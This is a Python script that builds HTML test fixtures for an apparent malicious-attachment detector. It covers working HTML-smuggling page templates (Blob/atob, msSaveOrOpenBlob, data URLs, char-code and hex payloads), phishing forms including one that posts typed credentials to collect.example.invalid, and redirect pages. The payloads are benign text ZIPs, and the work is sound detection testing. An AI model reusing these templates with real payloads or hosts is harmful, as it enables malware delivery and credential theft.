#!/usr/bin/env python3
"""Builds the HTML test fixtures in Tests/HTMLTests/Resources/.

Regenerate (from the repository root, plain Python 3, no packages):

    python3 scripts/make-html-fixtures.py

Each specimen has the structure of an Emotet-era HTML attachment (smuggling page, phishing form, redirect) and
nothing else: the smuggled payloads are small ZIP archives of a text file built here with zipfile, URLs use
example.invalid. Next to each page, `<name>.json` holds what Python computed independently of the Swift code:
the SHA-256, size and name of each payload, the indicator kinds that must (and must not) be reported, and the URLs.
"""

import base64
import hashlib
import io
import json
import os
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "HTMLTests", "Resources")

INVOICE_TEXT = ("Invoice 2021-0142\r\n" + "".join(
    f"Line {i:03d}: consulting services, 1 h at 95.00 EUR\r\n" for i in range(40))).encode()


def make_zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo(name, date_time=(2021, 1, 25, 9, 30, 0))
        info.compress_type = zipfile.ZIP_STORED
        z.writestr(info, data)
    return buf.getvalue()


ZIP_TXT = make_zip("invoice.txt", INVOICE_TEXT)
# A benign text file with a shortcut's name: what the engine must look into, not a real shortcut.
ZIP_LNK = make_zip("invoice.lnk", b"This is not a shortcut, only a text file named like one.\r\n")

fixtures = {}


def sha(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()


def add(name, html, payloads=(), indicators=(), absent=(), urls=(), forms=None, charset="utf-8", encoding="utf-8"):
    data = html.encode(encoding) if isinstance(html, str) else html
    with open(os.path.join(OUT, name + ".html"), "wb") as f:
        f.write(data)
    golden = {
        "file": name + ".html",
        "size": len(data),
        "charset": charset,
        "payloads": [{"sha256": sha(p), "size": len(p), "name": n, "technique": t} for (p, n, t) in payloads],
        "indicators": sorted(set(indicators)),
        "absent": sorted(set(absent)),
        "urls": list(urls),
    }
    if forms is not None:
        golden["forms"] = forms
    with open(os.path.join(OUT, name + ".json"), "w") as f:
        json.dump(golden, f, indent=1, sort_keys=True)
        f.write("\n")
    fixtures[name] = golden


def chunks(s: str, n: int):
    return [s[i:i + n] for i in range(0, len(s), n)]


SMUGGLING_KINDS = ["smuggling", "blob-download", "ms-save-blob", "data-url-download", "atob-long-string",
                   "char-code-payload", "credential-form", "escaped-payload"]

# --- Smuggling: Blob + atob + <a download> -------------------------------------------------------------------
b64 = base64.b64encode(ZIP_TXT).decode()
parts = chunks(b64, 76)
concat = ' +\n      '.join(f'"{p}"' for p in parts)
add("smuggling-blob", f"""<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Document</title></head>
<body>
<p>Your document is being downloaded...</p>
<script>
  var file = {concat};
  function b64toBytes(b) {{
    var bin = window.atob(b);
    var bytes = new Uint8Array(bin.length);
    for (var i = 0; i < bin.length; i++) {{ bytes[i] = bin.charCodeAt(i); }}
    return bytes;
  }}
  var data = b64toBytes(file);
  var blob = new Blob([data], {{type: 'application/zip'}});
  var a = document.createElement('a');
  document.body.appendChild(a);
  a.style = 'display: none';
  var url = window.URL.createObjectURL(blob);
  a.href = url;
  a.download = 'invoice.zip';
  a.click();
  window.URL.revokeObjectURL(url);
</script>
</body>
</html>
""", payloads=[(ZIP_TXT, "invoice.zip", "blob+base64")],
    indicators=["smuggling", "blob-download", "atob-long-string"], absent=["credential-form", "ms-save-blob"])

# --- Smuggling: atob inline, name in markup, the .lnk-named file ---------------------------------------------
b64l = base64.b64encode(ZIP_LNK).decode()
add("smuggling-inline-atob", f"""<html><body>
<a id="dl" download="invoice_0142.zip" style="display:none">x</a>
<script type="text/javascript">
const raw = atob('{b64l}');
const buf = Uint8Array.from(raw, c => c.charCodeAt(0));
const link = document.getElementById("dl");
link.href = URL.createObjectURL(new Blob([buf], {{ type: "application/octet-stream" }}));
link.click();
</script>
</body></html>
""", payloads=[(ZIP_LNK, "invoice_0142.zip", "blob+atob")], indicators=["smuggling", "blob-download"],
    absent=["credential-form", "atob-long-string"])

# --- Smuggling: msSaveOrOpenBlob -------------------------------------------------------------------------------
add("smuggling-mssave", f"""<!doctype html>
<html><head><title>Invoice</title></head><body>
<script>
var s = "{b64}";
var bin = atob(s);
var arr = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) arr[i] = bin.charCodeAt(i);
var blob = new Blob([arr], {{type: "application/octet-stream"}});
if (window.navigator.msSaveOrOpenBlob) {{
  window.navigator.msSaveOrOpenBlob(blob, "Rechnung_2021.zip");
}}
</script></body></html>
""", payloads=[(ZIP_TXT, "Rechnung_2021.zip", "ms-save-blob+atob")],
    indicators=["smuggling", "ms-save-blob", "atob-long-string"], absent=["credential-form"])

# --- Smuggling: data: URL anchor -------------------------------------------------------------------------------
add("smuggling-data-url", f"""<html>
<body onload="document.getElementById('d').click()">
<a id="d" href="data:application/octet-stream;base64,{b64l}" download="scan_0142.zip">Download</a>
</body>
</html>
""", payloads=[(ZIP_LNK, "scan_0142.zip", "data-url")], indicators=["smuggling", "data-url-download"],
    absent=["credential-form", "blob-download"])

# --- Smuggling: char codes -------------------------------------------------------------------------------------
codes = ",".join(str(b) for b in ZIP_LNK)
add("smuggling-charcodes", f"""<html><head>
<script>
var p = [{codes}];
var bytes = new Uint8Array(p);
var b = new Blob([bytes], {{type: "application/zip"}});
var u = URL.createObjectURL(b);
var e = document.createElement("a");
e.setAttribute("href", u);
e.setAttribute("download", "doc.zip");
e.click();
</script></head><body></body></html>
""", payloads=[(ZIP_LNK, "doc.zip", "blob+char-codes")], indicators=["smuggling", "blob-download", "char-code-payload"],
    absent=["credential-form"])

# --- Smuggling: String.fromCharCode over hex-encoded data in a hidden element ------------------------------------
hexdata = ZIP_LNK.hex()
add("smuggling-hex-island", f"""<html><body>
<div id="payload" style="display:none">{hexdata}</div>
<script>
function h2b(h) {{ var o = new Uint8Array(h.length / 2);
  for (var i = 0; i < h.length; i += 2) o[i / 2] = parseInt(h.substr(i, 2), 16); return o; }}
var data = h2b(document.getElementById("payload").textContent);
var url = URL.createObjectURL(new Blob([data]));
var a = document.createElement("a"); a.href = url; a.download = "report.zip"; a.click();
</script></body></html>
""", payloads=[(ZIP_LNK, "report.zip", "blob+hex")], indicators=["smuggling", "blob-download", "escaped-payload"],
    absent=["credential-form"])

# --- Obfuscated: document.write(atob(...)) of a page that smuggles ------------------------------------------------
inner = f"""<html><body><a id="x" href="data:application/zip;base64,{b64l}" download="inner.zip">x</a></body></html>"""
add("obfuscated-write", f"""<html><head><script>
document.write(atob("{base64.b64encode(inner.encode()).decode()}"));
</script></head></html>
""", payloads=[(ZIP_LNK, "inner.zip", "data-url")], indicators=["obfuscated-script", "smuggling", "data-url-download"],
    absent=["credential-form"])

# --- Credential phishing form ----------------------------------------------------------------------------------
add("credential-form", """<!DOCTYPE html>
<html><head><title>Sign in to your account</title></head>
<body>
<form method="POST" action="https://login.example.invalid/post.php">
  <input type="email" name="login" placeholder="Email">
  <input type="password" name="passwd" placeholder="Password">
  <input type="submit" value="Sign in">
</form>
</body></html>
""", indicators=["credential-form"], absent=["smuggling", "external-form-action"],
    urls=["https://login.example.invalid/post.php"],
    forms=[{"action": "https://login.example.invalid/post.php", "method": "post", "password": True}])

# --- Credential phishing with script post ------------------------------------------------------------------------
add("credential-ajax", """<html><body>
<input type="text" id="u"><input type="password" id="p"><button id="b">Next</button>
<script>
document.getElementById("b").onclick = function () {
  var x = new XMLHttpRequest();
  x.open("POST", "https://collect.example.invalid/n.php");
  x.send("u=" + document.getElementById("u").value + "&p=" + document.getElementById("p").value);
};
</script></body></html>
""", indicators=["credential-form", "script-post"], absent=["smuggling"],
    urls=["https://collect.example.invalid/n.php"])

# --- Redirects ---------------------------------------------------------------------------------------------------
add("meta-refresh", """<html><head>
<meta http-equiv="refresh" content="0;url=https://redirect.example.invalid/x">
</head><body>Loading...</body></html>
""", indicators=["meta-refresh"], absent=["smuggling", "script-redirect"], urls=["https://redirect.example.invalid/x"])

add("script-redirect", """<html><head><script>
var host = "https://redirect" + ".example.invalid";
window.location.replace(host + "/x");
</script></head><body></body></html>
""", indicators=["script-redirect"], absent=["smuggling", "meta-refresh"], urls=["https://redirect.example.invalid/x"])

# --- Benign pages --------------------------------------------------------------------------------------------------
add("benign-newsletter", """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Example Newsletter - January</title>
<style>body { font-family: sans-serif; } .btn { color: #fff; }</style>
<script src="https://cdn.example.invalid/analytics.js"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function track(e) { window.dataLayer.push({event: e, when: Date.now()}); }
  var ratio = 10 / 2; var re = /[a-z]+\\/x/g;
  document.addEventListener("DOMContentLoaded", function () { track("open"); });
</script>
</head><body>
<h1>News from the example team</h1>
<p>Read our <a href="https://news.example.invalid/2021/01">latest article</a> &amp; more.</p>
<form action="/subscribe" method="post"><input type="email" name="email"><button>Subscribe</button></form>
<form action="search.php"><input type="text" name="q"></form>
<!-- tracking pixel -->
<img src="https://news.example.invalid/p.gif" width="1" height="1" alt="">
</body></html>
""", absent=SMUGGLING_KINDS + ["external-form-action", "meta-refresh", "script-redirect", "obfuscated-script"],
    urls=["https://cdn.example.invalid/analytics.js"])

PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cf"
                    "c0f01f0005000201e1f3a9f00000000049454e44ae426082")
add("benign-inline-image", f"""<html><body>
<p>Logo: <img alt="logo" src="data:image/png;base64,{base64.b64encode(PNG).decode()}"></p>
<p style="background:url('data:image/png;base64,{base64.b64encode(PNG).decode()}')">x</p>
</body></html>
""", absent=SMUGGLING_KINDS + ["encoded-binary"])

# --- Shift_JIS ---------------------------------------------------------------------------------------------------------
sjis = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">
<title>請求書</title></head><body>
<p>表示されない場合はこちら</p>
<script>
var msg = "表示中です";
var n = "請求書.zip";
var d = atob("%s");
var u = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([u])); a.download = n; a.click();
</script></body></html>
""" % b64l
add("shift-jis", sjis, payloads=[(ZIP_LNK, "請求書.zip", "blob+atob")], indicators=["smuggling", "blob-download"],
    charset="shift_jis", encoding="shift_jis")

# --- UTF-16 ------------------------------------------------------------------------------------------------------------
add("utf16-refresh", "\ufeff<html><head><meta http-equiv=refresh content='2; URL=https://redirect.example.invalid/u16'>"
    "</head></html>", indicators=["meta-refresh"], urls=["https://redirect.example.invalid/u16"], encoding="utf-16-le")

# --- Malformed -----------------------------------------------------------------------------------------------------------
malformed = {}


def bad(name, data: bytes, anomalies):
    path = os.path.join(OUT, "malformed", name + ".html")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    malformed[name] = {"anomalies": anomalies}


bad("unterminated-script", b"<html><script>var a = 'x';\nvar b = \"unterminated\n", ["unterminated-raw-text",
                                                                                   "unterminated-string"])
bad("unterminated-comment", b"<html><body><!-- hidden <script>alert(1)</script>", ["unterminated-comment"])
bad("unterminated-tag", b"<html><body><a href=\"https://x.example.invalid/", ["unterminated-tag"])
bad("huge-attribute", b"<html><body><div title=\"" + b"A" * 300000 + b"\" " + b"".join(b"x%d=1 " % i for i in range(2000)) + b">t</div>",
    ["limit-exceeded"])
bad("nested-garbage", b"<<<>>><</</<!<!--<!---->--><?x<a<b<c =\"'<script<<</scr</script>" * 50 + b"\x00\xff\xfe<",
    [])
bad("bad-base64", b"<script>var d = atob('not base64 at all!!'); var u = URL.createObjectURL(new Blob([d]));</script>",
    ["invalid-encoding"])

with open(os.path.join(OUT, "malformed", "manifest.json"), "w") as f:
    json.dump(malformed, f, indent=1, sort_keys=True)
    f.write("\n")
with open(os.path.join(OUT, "fixtures.json"), "w") as f:
    json.dump(sorted(fixtures), f, indent=1)
    f.write("\n")
print(f"wrote {len(fixtures)} fixtures and {len(malformed)} malformed pages to {OUT}")
